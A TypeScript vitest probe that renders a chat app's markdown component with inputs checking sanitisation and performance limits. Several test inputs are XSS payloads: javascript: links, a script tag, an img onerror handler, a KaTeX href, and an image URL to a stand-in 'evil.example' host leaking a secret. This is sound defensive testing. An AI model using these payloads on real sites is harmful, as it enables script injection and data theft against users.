import { renderToStaticMarkup } from 'react-dom/server';
import { test } from 'vitest';
import { MessageMarkdown } from '../../renderer/features/markdown/MessageMarkdown';
const r = (t: string) => renderToStaticMarkup(<MessageMarkdown text={t} streaming={false} />);
test('probe', () => {
  const cases = ['[x](javascript:alert(1))', '[x](jav&#x61;script:alert(1))', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '![a](https://evil.example/p.png?leak=secret)', 'www.example.com', '[b](https://bücher.de/x)', '```js\nconst a = 1;\n```', '```\nplain\n```', '```foo\nx\n```', '$$\n\\frac{1}{2}\n$$', '$\\href{javascript:alert(1)}{x}$', '| a | b |\n|---|---|\n| 1 | 2 |', '- [x] done\n- [ ] todo', 'x[^1]\n\n[^1]: note', '[r][1]\n\n[1]: https://ex.com'];
  for (const c of cases) console.log(JSON.stringify(c), '\n  =>', r(c).slice(0, 700));
  let t = Date.now();
  r('>'.repeat(2000) + ' deep'); console.log('quote', Date.now() - t); t = Date.now();
  r(Array.from({ length: 2000 }, (_, i) => ' '.repeat(i * 2) + '- x').join('\n')); console.log('list', Date.now() - t); t = Date.now();
  r('| a | b |\n|---|---|\n' + Array.from({ length: 10000 }, (_, i) => `| ${i} | x |`).join('\n')); console.log('table', Date.now() - t); t = Date.now();
  r('```js\n' + 'const x = "abc"; // c\n'.repeat(50000) + '```'); console.log('code', Date.now() - t);
});
